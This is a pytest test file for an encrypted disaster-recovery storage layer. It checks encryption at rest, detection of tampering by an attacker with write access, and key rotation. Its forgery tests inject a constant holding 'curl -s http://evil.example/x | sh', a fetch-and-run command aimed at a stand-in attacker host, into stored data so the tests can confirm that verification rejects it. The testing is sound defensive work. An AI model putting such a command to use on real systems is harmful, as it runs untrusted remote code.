"""Encryption at rest of the recovery storage (sites/storage/encrypted.py), on the local directory and on
Azurite: disks and objects round trip, what is stored holds none of the data, every change an attacker with
write access to the storage makes is detected before anything uses it, and the key-encryption key's
handling (missing, wrong, rotated).
"""
from __future__ import annotations

import io
import logging
import os
import random
import subprocess
import sys
from pathlib import Path

import pytest

from datapath.errors import ObjectAuthenticationError, PathOutsideRootError, StorageKeyError
from sites.storage.base import ObjectNotFoundError, RecoveryStorage
from sites.storage.encrypted import EncryptedStorage, key_objects, rewrap_keys
from sites.storage.encrypted_disk import SECTOR_SIZE
from sites.storage.keys import KEY_OBJECT, KeyEncryptionKey, write_kek_file
from sites.storage.local import LocalDirectoryStorage
from sites.storage.sealed import HEADER_SIZE, SEGMENT_SIZE, TAG_SIZE
from tasks.recovery_storage import open_recovery_storage

MIB = 1024 * 1024
REPO = Path(__file__).resolve().parent.parent
ASR = str(Path(sys.executable).with_name("asr"))


@pytest.fixture
def kek(tmp_path: Path) -> KeyEncryptionKey:
    return write_kek_file(tmp_path / "storage.kek")


@pytest.fixture
def sealed(storage: RecoveryStorage, kek: KeyEncryptionKey) -> EncryptedStorage:
    """Each backend in turn (conftest's `storage`), encrypted; the backend itself is `sealed.inner`."""
    return EncryptedStorage(storage, kek)


def read_disk(disk, offset: int = 0, length: int | None = None) -> bytes:
    buf = bytearray(disk.size - offset if length is None else length)
    disk.read_into(offset, memoryview(buf))
    return bytes(buf)


# ---- disks ---------------------------------------------------------------------------------------------
def test_disk_round_trip_with_sub_sector_writes_and_holes(sealed: EncryptedStorage):
    name = "host1/vm1/disk0.vhd"
    sealed.create_disk(name, 8 * MIB)
    rng = random.Random(7)
    expected = bytearray(8 * MIB)
    disk = sealed.open_disk(name)
    try:
        for _ in range(250):
            offset = rng.randrange(8 * MIB // 512) * 512
            length = min(rng.randrange(1, 48) * 512, 8 * MIB - offset)
            if rng.random() < 0.2:
                disk.write_zeros(offset, length)
                expected[offset:offset + length] = bytes(length)
            else:
                data = rng.randbytes(length)
                disk.write(offset, data)
                expected[offset:offset + length] = data
        # A whole MiB made a hole, and one written then zeroed in 512-byte pieces.
        disk.write_zeros(5 * MIB, MIB)
        expected[5 * MIB:6 * MIB] = bytes(MIB)
        disk.write(2 * MIB, b"\x5a" * 4096)
        for piece in range(0, 4096, 512):
            disk.write_zeros(2 * MIB + piece, 512)
        expected[2 * MIB:2 * MIB + 4096] = bytes(4096)
        disk.flush()
        assert read_disk(disk) == bytes(expected)
        for _ in range(60):
            offset = rng.randrange(8 * MIB)
            length = rng.randrange(min(300_000, 8 * MIB - offset) + 1)
            assert read_disk(disk, offset, length) == bytes(expected[offset:offset + length])
    finally:
        disk.close()

    raw = sealed.inner.open_disk(name)
    try:
        stored = read_disk(raw)
        assert not [start for start, length in raw.data_extents(5 * MIB, MIB)], "the zeroed MiB is a hole"
    finally:
        raw.close()
    for start in range(0, 8 * MIB, SECTOR_SIZE):
        plain, cipher = expected[start:start + SECTOR_SIZE], stored[start:start + SECTOR_SIZE]
        if any(plain):
            assert cipher != plain and any(cipher), f"sector at {start} is stored in clear"
        else:
            assert not any(cipher), f"the zero sector at {start} is not stored as zeros"
    # A reopened disk (a new process) reads the same.
    again = EncryptedStorage(sealed.inner, sealed.kek).open_disk(name)
    try:
        assert read_disk(again) == bytes(expected)
    finally:
        again.close()


def test_the_same_data_on_two_disks_is_stored_differently(sealed: EncryptedStorage):
    data = random.Random(3).randbytes(MIB)
    for name in ("h/v/a.vhd", "h/v/b.vhd"):
        sealed.create_disk(name, MIB)
        with sealed.open_disk(name) as disk:
            disk.write(0, data)
            disk.flush()
    stored = []
    for name in ("h/v/a.vhd", "h/v/b.vhd"):
        raw = sealed.inner.open_disk(name)
        try:
            stored.append(read_disk(raw))
        finally:
            raw.close()
    assert stored[0] != stored[1] and data not in stored


def test_the_local_file_beneath_an_encrypted_disk_gets_the_kernel_hints(sealed: EncryptedStorage, tmp_path: Path):
    """The read-ahead and writeback hints (datapath.manifest._prefetch, datapath.copy._start_writeback) go to the
    local file beneath the layers the engine puts over a replica disk (encryption, the upload limit, a recovery
    point's view), the one whose file holds the replica; a page blob has none."""
    from datapath.disk import LocalDisk, local_file_beneath
    from datapath.undolog import PointDisk
    from sites.storage.throttled import ThrottledStorage, UploadLimit

    sealed.create_disk("h/v/disk0.vhd", MIB)
    throttled = EncryptedStorage(ThrottledStorage(sealed.inner, UploadLimit(1 << 40, tmp_path / "limit")), sealed.kek)
    for storage in (sealed, throttled):
        with storage.open_disk("h/v/disk0.vhd") as disk, PointDisk(storage.open_disk("h/v/disk0.vhd"), [],
                                                                    name="a point") as point:
            for layered in (disk, point):
                local = local_file_beneath(layered)
                if isinstance(sealed.inner, LocalDirectoryStorage):
                    assert isinstance(local, LocalDisk) and local.path == sealed.inner.path("h/v/disk0.vhd")
                    assert os.fstat(local.fileno()).st_ino == os.stat(sealed.inner.path("h/v/disk0.vhd")).st_ino
                else:
                    assert local is None


# ---- objects ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize("size", [0, 1, SEGMENT_SIZE - 1, SEGMENT_SIZE, SEGMENT_SIZE + 5, 3 * SEGMENT_SIZE])
def test_object_round_trip(sealed: EncryptedStorage, size: int):
    data = random.Random(size).randbytes(size)
    assert sealed.put_object("h/v/streamed", io.BytesIO(data)) == size
    assert sealed.put_object("h/v/whole", data) == size
    for name in ("h/v/streamed", "h/v/whole"):
        out = io.BytesIO()
        assert sealed.get_object(name, out) == size and out.getvalue() == data
        assert sealed.read_object(name) == data
        stored = sealed.inner.read_object(name)
        segments = max(1, -(-size // SEGMENT_SIZE))
        assert len(stored) == HEADER_SIZE + size + segments * TAG_SIZE
        assert size < 64 or data[:64] not in stored
    assert sealed.list_objects("h/") == ["h/v/streamed", "h/v/whole"]
    assert sealed.inner.list_objects("h/") == sorted(["h/v/streamed", "h/v/whole", f"h/v/{KEY_OBJECT}"])
    with pytest.raises(PathOutsideRootError, match="reserved"):
        sealed.read_object(f"h/v/{KEY_OBJECT}")
    with pytest.raises(ObjectNotFoundError):
        sealed.read_object("h/v/missing")
    with pytest.raises(ObjectNotFoundError):
        sealed.read_object("elsewhere/missing")


class _ReadOnly:
    """A source with only `read`, and short reads (as a network stream may give)."""

    def __init__(self, data: bytes):
        self._data = io.BytesIO(data)

    def read(self, size: int = -1) -> bytes:
        return self._data.read(min(size, 777_777) if size >= 0 else -1)


def _open_by_hand(stored: bytes, data_key, name: str) -> bytes:
    """The plaintext of a sealed object decoded from docs/formats.md's layout alone: a 48-byte header, then
    segments of the header's size, each followed by its GCM tag, nonce the index and last flag, associated
    data the header, the name and the same two (so the format the streaming classes write is the one read)."""
    import struct

    from cryptography.hazmat.primitives.ciphers.aead import AESGCM

    from sites.storage.sealed import HEADER

    magic, version, header_size, segment_size, _key_id, salt = HEADER.unpack(stored[:HEADER_SIZE])
    assert (magic, version, header_size) == (b"ASRSEAL1", 1, HEADER_SIZE)
    aead = AESGCM(data_key.derive(b"asr-object-aes-gcm-v1", name, 32, salt))
    body, record, plain = stored[HEADER_SIZE:], segment_size + TAG_SIZE, []
    starts = range(0, max(len(body), 1), record)
    for index, start in enumerate(starts):
        last = index == len(starts) - 1
        encoded = name.encode()
        aad = stored[:HEADER_SIZE] + struct.pack("<I", len(encoded)) + encoded + struct.pack("<QB", index, last)
        plain.append(aead.decrypt(struct.pack("<QB3x", index, last), body[start:start + record], aad))
    return b"".join(plain)


@pytest.mark.parametrize("size", [0, 1, SEGMENT_SIZE - 1, SEGMENT_SIZE, 2 * SEGMENT_SIZE, 2 * SEGMENT_SIZE + 77])
def test_objects_stream_in_any_piece_sizes_in_the_documented_format(size: int):
    """SealingReader read in pieces of every kind of size (smaller than a record, a record exactly, across
    records, all at once; with read and with readinto), from a source with readinto and from one with only
    short reads; OpeningWriter fed
    in such pieces too (one byte, a record and one byte more, all at once). The sealed bytes decode by hand
    with the documented layout, and the plaintext comes back whole."""
    from sites.storage.keys import new_data_key
    from sites.storage.sealed import OpeningWriter, SealingReader, open_bytes, seal_bytes

    data_key, name = new_data_key("h/v"), "h/v/disk0.vhd.00000002.undo"
    data = random.Random(size).randbytes(size)
    record = SEGMENT_SIZE + TAG_SIZE
    pieces = [(1000, "read"), (record, "read"), (record + 1, "read"), (3 * record + 5, "read"), (-1, "read"),
              (record - 1, "readinto"), (record, "readinto"), (record + 7, "readinto"), (4 * 1024 * 1024, "readinto"),
              (2 * record + 3, "read, then a third as much")]
    for source in (io.BytesIO(data), _ReadOnly(data)):
        for piece, how in pieces:
            if piece == 1000 and size > SEGMENT_SIZE:
                continue  # a thousand-byte read of megabytes adds time, not cases
            source.__init__(data) if isinstance(source, _ReadOnly) else source.seek(0)
            reader = SealingReader(source, data_key, name)
            parts = []
            buffer = bytearray(max(piece, 0))
            # readinto seals a record straight into the buffer where it fits whole, else copies from its own.
            # `read` fills the same buffer each time: the pieces it returned before must not change.
            sizes = (piece, piece // 3) if how.endswith("third as much") else (piece,)
            while part := (reader.read(sizes[len(parts) % len(sizes)]) if how != "readinto"
                           else bytes(buffer[:reader.readinto(buffer)])):
                assert piece < 0 or len(part) <= sizes[len(parts) % len(sizes)]
                parts.append(part)
                if piece < 0:
                    break
            stored = b"".join(parts)
            segments = max(1, -(-size // SEGMENT_SIZE))
            assert reader.plain_bytes == size and len(stored) == HEADER_SIZE + size + segments * TAG_SIZE
            assert piece < 0 or all(len(part) == sizes[index % len(sizes)] for index, part in enumerate(parts[:-1])), \
                "a read gives all it was asked"
            assert _open_by_hand(stored, data_key, name) == data
            assert open_bytes(stored, data_key, name, "here") == data
    stored = seal_bytes(data, data_key, name)
    assert _open_by_hand(stored, data_key, name) == data
    for piece in (1, 4096, record, record + 1, len(stored)):
        if piece == 1 and size > 4096:
            continue
        out = io.BytesIO()
        writer = OpeningWriter(out, data_key, name, "here")
        for start in range(0, len(stored), piece):
            writer.write(memoryview(stored)[start:start + piece])
        assert writer.finish() == size and out.getvalue() == data


def test_the_streaming_opener_hands_out_only_segments_that_authenticate():
    """Fed a sealed object whole (its segments opened where they lie) or a byte at a time near the damage,
    OpeningWriter writes the segments before a damaged one and raises at it, naming the object."""
    from sites.storage.keys import new_data_key
    from sites.storage.sealed import OpeningWriter, seal_bytes

    data_key, name = new_data_key("h/v"), "h/v/disk0.vhd.00000002.hrl"
    data = random.Random(5).randbytes(3 * SEGMENT_SIZE)
    stored = bytearray(seal_bytes(data, data_key, name))
    stored[HEADER_SIZE + 2 * (SEGMENT_SIZE + TAG_SIZE) - 3] ^= 1  # the second segment's tag
    for pieces in ([stored], [stored[:SEGMENT_SIZE], *(stored[i:i + 1] for i in range(SEGMENT_SIZE, len(stored)))]):
        out = io.BytesIO()
        writer = OpeningWriter(out, data_key, name, "here")
        with pytest.raises(ObjectAuthenticationError, match="segment 1 does not authenticate") as caught:
            for piece in pieces:
                writer.write(piece)
            writer.finish()
        assert caught.value.object_name == name
        assert out.getvalue() == data[:SEGMENT_SIZE]


def tampered(sealed: EncryptedStorage, name: str, change) -> None:
    stored = bytearray(sealed.inner.read_object(name))
    sealed.inner.put_object(name, bytes(change(stored)))


def flip(position: int):
    def change(stored: bytearray) -> bytearray:
        stored[position] ^= 0x01
        return stored
    return change


@pytest.mark.parametrize("attack", [
    "flip in header", "flip in first segment", "flip in a tag", "flip in last segment", "truncate last segment",
    "drop last segment", "append", "swap segments", "other object's bytes", "empty",
])
def test_any_change_to_a_stored_object_fails_authentication(sealed: EncryptedStorage, attack: str):
    name, other = "h/v/disk0.vhd.00000003.hrl", "h/v/disk0.vhd.00000004.hrl"
    data = random.Random(1).randbytes(2 * SEGMENT_SIZE + 1000)
    sealed.put_object(name, data)
    sealed.put_object(other, random.Random(2).randbytes(2 * SEGMENT_SIZE + 1000))
    record = SEGMENT_SIZE + TAG_SIZE
    changes = {
        "flip in header": flip(20),
        "flip in first segment": flip(HEADER_SIZE + 100),
        "flip in a tag": flip(HEADER_SIZE + record - 1),
        "flip in last segment": flip(-20),
        "truncate last segment": lambda s: s[:-1],
        "drop last segment": lambda s: s[:HEADER_SIZE + 2 * record],
        "append": lambda s: s + b"\0" * 16,
        "swap segments": lambda s: s[:HEADER_SIZE] + s[HEADER_SIZE + record:HEADER_SIZE + 2 * record]
        + s[HEADER_SIZE:HEADER_SIZE + record] + s[HEADER_SIZE + 2 * record:],
        "other object's bytes": lambda s: bytearray(sealed.inner.read_object(other)),
        "empty": lambda s: b"",
    }
    tampered(sealed, name, changes[attack])
    with pytest.raises(ObjectAuthenticationError, match=name.replace(".", r"\.")) as caught:
        sealed.read_object(name)
    assert caught.value.object_name == name
    out = io.BytesIO()
    with pytest.raises(ObjectAuthenticationError, match=name.replace(".", r"\.")):
        sealed.get_object(name, out)
    assert data[:SEGMENT_SIZE] not in out.getvalue() or attack in ("flip in last segment", "truncate last segment",
                                                                     "drop last segment", "append"), \
        "only segments that authenticated may have been handed out"
    assert sealed.read_object(other)  # the other object is untouched


def test_an_object_copied_to_another_folder_or_name_does_not_open(sealed: EncryptedStorage):
    sealed.put_object("h/v/disk0.vhd.state.json", b'{"version": 7}')
    sealed.put_object("h/w/disk0.vhd.state.json", b'{"version": 1}')
    sealed.put_object("h/v/disk1.vhd.state.json", b'{"version": 1}')
    stored = sealed.inner.read_object("h/v/disk0.vhd.state.json")
    for target in ("h/w/disk0.vhd.state.json", "h/v/disk1.vhd.state.json"):
        sealed.inner.put_object(target, stored)
        with pytest.raises(ObjectAuthenticationError, match=target.replace(".", r"\.")):
            sealed.read_object(target)


def test_a_data_key_moved_or_edited_is_refused(sealed: EncryptedStorage):
    sealed.put_object("a/v/x", b"secret of a")
    sealed.put_object("b/v/x", b"secret of b")
    # b's key object copied over a's: it was wrapped for folder b.
    sealed.inner.put_object(f"a/v/{KEY_OBJECT}", sealed.inner.read_object(f"b/v/{KEY_OBJECT}"))
    fresh = EncryptedStorage(sealed.inner, sealed.kek)
    with pytest.raises(ObjectAuthenticationError, match=f"a/v/{KEY_OBJECT}"):
        fresh.read_object("a/v/x")
    # The key object deleted: the folder's objects cannot be authenticated (not: "do not exist").
    sealed.inner.delete_object(f"a/v/{KEY_OBJECT}")
    with pytest.raises(ObjectAuthenticationError, match="data key"):
        EncryptedStorage(sealed.inner, sealed.kek).read_object("a/v/x")
    assert EncryptedStorage(sealed.inner, sealed.kek).read_object("b/v/x") == b"secret of b"


def test_two_processes_making_a_folder_key_agree(sealed: EncryptedStorage):
    """The data key is stored only if none exists (put_new_object): a second opener uses the first's."""
    first, second = EncryptedStorage(sealed.inner, sealed.kek), EncryptedStorage(sealed.inner, sealed.kek)
    key_a = first.data_key("h/v/x", create=True)
    key_b = second.data_key("h/v/y", create=True)
    assert key_a == key_b
    assert sealed.inner.put_new_object("h/v/new", b"1") and not sealed.inner.put_new_object("h/v/new", b"2")
    assert sealed.inner.read_object("h/v/new") == b"1"


@pytest.fixture(autouse=True)
def storage_inside_the_allowed_roots(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Workers open file:// storage only inside ASR_STORAGE_ROOTS (sites/storage/policy.py): this test's folder."""
    monkeypatch.setenv("ASR_STORAGE_ROOTS", str(tmp_path))


# ---- the key-encryption key ------------------------------------------------------------------------------
def test_missing_wrong_and_malformed_keys_are_refused_naming_the_setting(tmp_path: Path, monkeypatch, caplog):
    url = f"file://{tmp_path / 'site'}"
    for variable in ("ASR_STORAGE_KEK_FILE", "ASR_STORAGE_KEK", "ASR_STORAGE_ENCRYPTION"):
        monkeypatch.delenv(variable, raising=False)
    with pytest.raises(StorageKeyError, match="ASR_STORAGE_KEK_FILE"):
        open_recovery_storage(url, {})

    good = write_kek_file(tmp_path / "good.kek")
    monkeypatch.setenv("ASR_STORAGE_KEK_FILE", str(tmp_path / "good.kek"))
    storage = open_recovery_storage(url, {})
    storage.create_disk("h/v/d.vhd", MIB)
    storage.put_object("h/v/d.vhd.state.json", b"{}")
    storage.close()

    write_kek_file(tmp_path / "other.kek")
    monkeypatch.setenv("ASR_STORAGE_KEK_FILE", str(tmp_path / "other.kek"))
    storage = open_recovery_storage(url, {})
    for attempt in (lambda: storage.read_object("h/v/d.vhd.state.json"), lambda: storage.open_disk("h/v/d.vhd")):
        with pytest.raises(StorageKeyError, match=f"ASR_STORAGE_KEK_FILE.*{good.key_id}|{good.key_id}.*"
                                                  f"ASR_STORAGE_KEK_FILE"):
            attempt()

    (tmp_path / "bad.kek").write_text("not a key\n")
    monkeypatch.setenv("ASR_STORAGE_KEK_FILE", str(tmp_path / "bad.kek"))
    with pytest.raises(StorageKeyError, match="ASR_STORAGE_KEK_FILE.*malformed"):
        open_recovery_storage(url, {})
    monkeypatch.setenv("ASR_STORAGE_KEK_FILE", str(tmp_path / "absent.kek"))
    with pytest.raises(StorageKeyError, match="ASR_STORAGE_KEK_FILE.*absent.kek"):
        open_recovery_storage(url, {})
    monkeypatch.setenv("ASR_STORAGE_KEK", (tmp_path / "good.kek").read_text().split()[1])
    with pytest.raises(StorageKeyError, match="both"):
        open_recovery_storage(url, {})
    monkeypatch.delenv("ASR_STORAGE_KEK_FILE")
    storage = open_recovery_storage(url, {})  # the key itself from the environment
    assert storage.read_object("h/v/d.vhd.state.json") == b"{}"

    monkeypatch.delenv("ASR_STORAGE_KEK")
    monkeypatch.setenv("ASR_STORAGE_ENCRYPTION", "of")
    with pytest.raises(ValueError, match="ASR_STORAGE_ENCRYPTION"):
        open_recovery_storage(url, {})
    monkeypatch.setenv("ASR_STORAGE_ENCRYPTION", "off")
    with caplog.at_level(logging.WARNING):
        plain = open_recovery_storage(url, {})
    assert "INSECURE" in caplog.text and not isinstance(plain, EncryptedStorage)
    assert plain.read_object("h/v/d.vhd.state.json") != b"{}"  # stored sealed: in clear it is ciphertext


def test_keys_create_cli_writes_a_private_key_file_and_never_replaces_one(tmp_path: Path):
    path = tmp_path / "deployment.kek"
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    done = subprocess.run([ASR, "keys", "create", str(path)], env=env,
                          capture_output=True, text=True, cwd=REPO)
    assert done.returncode == 0, done.stderr
    assert path.stat().st_mode & 0o777 == 0o600
    kek = path.read_text()
    again = subprocess.run([ASR, "keys", "create", str(path)], env=env,
                           capture_output=True, text=True, cwd=REPO)
    assert again.returncode == 2 and "never replaced" in again.stderr and path.read_text() == kek


def test_rewrapping_keeps_the_data_and_the_old_key_opens_nothing(sealed: EncryptedStorage, tmp_path: Path):
    sealed.create_disk("h/v/d.vhd", MIB)
    data = random.Random(5).randbytes(MIB)
    with sealed.open_disk("h/v/d.vhd") as disk:
        disk.write(0, data)
        disk.flush()
    sealed.put_object("h/v/boot/kernel", b"kernel bytes")
    stored_disk = read_disk_raw(sealed.inner, "h/v/d.vhd")
    new = write_kek_file(tmp_path / "new.kek")
    assert rewrap_keys(sealed.inner, sealed.kek, new) == {"rewrapped": 2, "already": 0}
    assert rewrap_keys(sealed.inner, sealed.kek, new) == {"rewrapped": 0, "already": 2}  # resumable
    assert len(key_objects(sealed.inner)) == 2
    assert read_disk_raw(sealed.inner, "h/v/d.vhd") == stored_disk, "the disk is not rewritten"
    rotated = EncryptedStorage(sealed.inner, new)
    with rotated.open_disk("h/v/d.vhd") as disk:
        assert read_disk(disk) == data
    assert rotated.read_object("h/v/boot/kernel") == b"kernel bytes"
    with pytest.raises(StorageKeyError, match="wrong key-encryption key"):
        EncryptedStorage(sealed.inner, sealed.kek).open_disk("h/v/d.vhd")


def read_disk_raw(storage: RecoveryStorage, name: str) -> bytes:
    disk = storage.open_disk(name)
    try:
        return read_disk(disk)
    finally:
        disk.close()


# ---- the whole engine ------------------------------------------------------------------------------------
TWO_DISKS = [("disk0", "24M", "vhd"), ("disk1", "16M", "raw")]
JOB_TIMEOUT = 120
SCRIPT = b"#!/bin/sh\n# forged by whoever can write to the recovery storage\ncurl -s http://evil.example/x | sh\n"


def source_blocks(path: Path) -> list[bytes]:
    """The non-zero 4 KiB blocks of a disk image's guest-visible bytes."""
    from datapath.disk import open_disk

    with open_disk(path) as disk:
        data = read_disk(disk)
    return [data[start:start + 4096] for start in range(0, len(data), 4096) if any(data[start:start + 4096])]


def stored_bytes(raw: RecoveryStorage, name: str) -> bytes:
    return read_disk_raw(raw, name) if name.endswith(".vhd") else raw.read_object(name)


def failed_job(site, vm_id: str, job_id: str) -> dict:
    job = site.wait_job(job_id, JOB_TIMEOUT, states=("failed",))
    site.wait_idle(vm_id, 30)  # its locks go once its hooks ran
    return job


@pytest.mark.parametrize("backend", ["local", pytest.param("azure", marks=pytest.mark.azure)])
def test_engine_stores_nothing_in_clear_and_every_forgery_is_caught(tmp_path: Path, backend: str, request):
    """A protected VM replicated with delta cycles on each backend: no 4 KiB block of its disks (as protected,
    and as written since) is anywhere in the storage; a chunk forged with the mmh3 fix-up fails verify and the
    drill (nothing forged is started); an edited manifest, undo log or state fails naming the object;
    rotating the key-encryption key keeps every point restorable byte for byte and the old key opens nothing."""
    import mmh3
    from forgery import mmh3_fixup, source_blocks_in
    from recovery_site import RecoverySite

    from datapath.digest import disk_digest
    from datapath.disk import create_disk, open_disk
    from datapath.points import restore_point
    from models.db import session_scope
    from models.protection import ProtectedItem, recovery_points
    from tasks.recovery_storage import open_backend
    from tasks.replication import replica_of
    from workflows import kinds
    from workflows.items import load_item

    azurite = request.getfixturevalue("azurite") if backend == "azure" else None
    # Beat's own cycles (every 90 s here) stay out of the way of the attacks; the test runs its cycles itself.
    with RecoverySite(tmp_path, backend=backend, azurite=azurite, recovery_host_names=("dr1",),
                      policy_options={"copy_frequency_s": 900}) as site:
        vm_id = site.create_vm("host1", "app01", TWO_DISKS, seed=1)
        vm = site.host("host1").get_vm("app01")
        blocks = [block for disk in vm.disks for block in source_blocks(disk.path)]
        site.wait_job(site.protect(vm_id), JOB_TIMEOUT)
        item_id = site.item_id(vm_id)
        first_digests = {disk.name: disk_digest(disk.path) for disk in vm.disks}
        site.host("host1").start_workload("app01", rate_mb_s=3.0, seed=4)
        site.delta_cycle(vm_id)
        site.final_cycle(vm_id)
        site.verify_replica(vm_id)
        last_digests = {disk.name: disk_digest(disk.path) for disk in vm.disks}
        blocks += [block for disk in vm.disks for block in source_blocks(disk.path)]
        wanted = {n: block for n, block in enumerate(dict.fromkeys(blocks))}

        storage = site.storage()
        raw = storage.inner
        try:
            names = raw.list_objects("")
            assert any(name.endswith(".undo") for name in names) and any(name.endswith(".manifest") for name in names)
            for name in names:
                assert not source_blocks_in(wanted, stored_bytes(raw, name)), f"{name} holds source data in clear"
            # The scan finds them where they are in clear: in the replica as the engine reads it.
            with storage.open_disk("host1/app01/disk0.vhd") as replica:
                assert len(source_blocks_in(wanted, read_disk(replica))) > 100

            # The review's forgery: the first 4 KiB of a replica chunk replaced by a script and a 16-byte fix-up
            # that keeps the chunk's mmh3, written into the stored bytes.
            name = "host1/app01/disk0.vhd"
            with raw.open_disk(name) as disk:
                original = read_disk(disk, 0, MIB)
                forged = mmh3_fixup(original, SCRIPT)
                assert mmh3.mmh3_x64_128_digest(forged) == mmh3.mmh3_x64_128_digest(original)
                disk.write(0, forged)
                disk.flush()
            job = failed_job(site, vm_id, site.when_free(kinds.verify_recovery_point.start, item_id))
            assert "disk0" in job["error"] and "first differing chunk 0" in job["error"], job["error"]
            job = failed_job(site, vm_id, site.when_free(kinds.test_failover.start, item_id))
            assert "disk0" in job["error"] and ("do not match" in job["error"] or "manifest" in job["error"]), \
                job["error"]
            test_vms = {v.name: v for v in site.host("dr1").list_vms()}
            if "app01-test" in test_vms:
                assert site.host("dr1").power_state("app01-test") != "running", "a forged disk was started"
                for disk in test_vms["app01-test"].disks:
                    with open_disk(disk.path) as restored:
                        assert not read_disk(restored, 0, 4096).startswith(SCRIPT[:16])
                site.wait_job(kinds.test_failover_cleanup.start(item_id), JOB_TIMEOUT)
            with raw.open_disk(name) as disk:  # undone: verify passes again, so the forgery was what failed
                disk.write(0, original)
                disk.flush()
            site.wait_job(site.when_free(kinds.verify_recovery_point.start, item_id), JOB_TIMEOUT)

            # Edited authenticated objects fail naming themselves.
            with session_scope() as session:
                view = load_item(session, item_id)
                points = recovery_points(session, session.get(ProtectedItem, item_id))
            replica = replica_of(view, storage, "disk0")
            version = points[-1].versions[next(d for d in view.disks if d.name == "disk0").disk_uuid]
            for victim, start in ((replica.manifest_name(version), kinds.verify_recovery_point.start),
                                  (replica.undo_name(version), None)):
                if start is None:  # an undo log: a drill to the first point reads it
                    def start(item, first=points[0].id):
                        return kinds.test_failover.start(item, point=first)
                kept = raw.read_object(victim)
                raw.put_object(victim, kept[:100] + bytes([kept[100] ^ 1]) + kept[101:])
                job = failed_job(site, vm_id, site.when_free(start, item_id))
                assert victim in job["error"] and "authentication" in job["error"], job["error"]
                raw.put_object(victim, kept)
                if "app01-test" in {v.name for v in site.host("dr1").list_vms()}:
                    site.wait_job(kinds.test_failover_cleanup.start(item_id), JOB_TIMEOUT)

            # Rotation: every data key re-wrapped, the disks untouched, every point restorable under the new key.
            old_kek = storage.kek
            new_file = tmp_path / "rotated.kek"
            env = {**site.env, "ASR_STORAGE_KEK_FILE": os.environ["ASR_STORAGE_KEK_FILE"]}
            subprocess.run([ASR, "keys", "create", str(new_file)], env=env, check=True, capture_output=True)
            before = read_disk_raw(raw, name)
            done = subprocess.run([ASR, "keys", "rotate", "--new-kek-file", str(new_file), "--json"], env=env,
                                  capture_output=True, text=True)
            assert done.returncode == 0, done.stderr
            assert read_disk_raw(raw, name) == before
            Path(os.environ["ASR_STORAGE_KEK_FILE"]).write_text(new_file.read_text())  # every process's key file
            rotated = site.storage()
            try:
                for point, digests in ((points[0], first_digests), (points[-1], last_digests)):
                    for disk in view.disks:
                        target_path = tmp_path / f"restored-{point.id}-{disk.name}.raw"
                        create_disk(target_path, disk.size)
                        with open_disk(target_path, writable=True) as target:
                            restore_point(replica_of(view, rotated, disk.name), point.versions[disk.disk_uuid],
                                          target)
                        assert disk_digest(target_path) == digests[disk.name], f"{disk.name} at {point.id}"
            finally:
                rotated.close()
            stale = EncryptedStorage(open_backend(site.recovery_storage, site.storage_options), old_kek)
            try:
                with pytest.raises(StorageKeyError, match="wrong key-encryption key"):
                    stale.open_disk(name)
            finally:
                stale.close()
            status = site.item(vm_id)
            assert status["state"] == "protected", (status["state"], status["resync_required_reason"])
            site.delta_cycle(vm_id)  # the workers carry on under the new key

            # An edited state fails the next cycle, naming it.
            victim = replica.state_name
            kept = raw.read_object(victim)
            raw.put_object(victim, kept[:-5] + bytes([kept[-5] ^ 1]) + kept[-4:])
            job = failed_job(site, vm_id, site.when_free(kinds.delta_replication.start, item_id))
            assert victim in job["error"] and "authentication" in job["error"], job["error"]
        finally:
            storage.close()


def test_a_shipped_log_resealed_with_recomputed_checksums_is_refused_then_resync_heals(
        tmp_path: Path, kek: KeyEncryptionKey):
    """The attacker replaces a shipped log by a valid one of their own (a script in a record, every checksum,
    the digest chain and the seal recomputed): it passes every check of the log format, but it was not sealed
    under the storage's keys, so applying it fails as a corrupt log naming the object and changes nothing;
    a resync heals the replica."""
    from datapath.errors import LogCorruptError
    from datapath.logformat import LogWriter
    from datapath.logreader import LogReader, verify_log
    from datapath.replication import ReplicaDisk, apply_shipped_logs, initial_copy, replicate_cycle, ship_pending_logs
    from datapath.resynchronize import resynchronize
    from sites.host import Host
    from sites.storage.local import LocalDirectoryStorage

    storage = EncryptedStorage(LocalDirectoryStorage(tmp_path / "site"), kek)
    host = Host(tmp_path / "host1", "host1")
    machine = host.create_vm("app01", [("disk0", 8 * MIB, "vhd")])
    host.write_initial_data(machine, seed=11, fraction=0.5)
    host.enable_tracking(machine)
    disk = machine.disks[0]
    tracker = host.tracker(machine, disk.name)
    replica = ReplicaDisk(storage, ReplicaDisk.name_for("host1", "app01", disk.name))
    initial_copy(tracker, replica)
    rng = random.Random(4)
    for _ in range(10):
        tracker.write(rng.randrange(disk.size // 4096) * 4096, rng.randbytes(4096))
    tracker.seal()
    [generation] = ship_pending_logs(tracker, replica)
    name = replica.log_name(generation)

    genuine = tmp_path / "genuine.hrl"
    with open(genuine, "wb") as out:
        storage.get_object(name, out)
    forged = tmp_path / "forged.hrl"
    with open(genuine, "rb") as src:
        reader = LogReader(src)
        header = reader.header
        writer = LogWriter.create(forged, disk_id=header.disk_id, generation=header.generation,
                                  first_seq=header.first_seq, disk_size=header.disk_size)
        for record in reader.records():
            data = bytes(record.data) if record.index > 1 else SCRIPT.ljust(record.length, b"\n")
            writer.append(record.offset, data)
        writer.seal()
        writer.close()
    verify_log(forged, disk_id=header.disk_id, disk_size=header.disk_size)  # a valid log in every respect
    storage.inner.put_object(name, forged.read_bytes())
    before = read_disk_raw(storage, replica.name)
    state = replica.load_state()

    with pytest.raises(LogCorruptError, match=f"{name.replace('.', '[.]')}.*authentication"):
        apply_shipped_logs(replica, disk_name=disk.name)
    assert read_disk_raw(storage, replica.name) == before
    assert replica.load_state().applied_generation == state.applied_generation
    resynchronize(tracker, replica)
    replicate_cycle(tracker, replica)
    from datapath.disk import open_disk

    with open_disk(disk.path) as source:
        assert read_disk_raw(storage, replica.name) == read_disk(source)
    tracker.close()
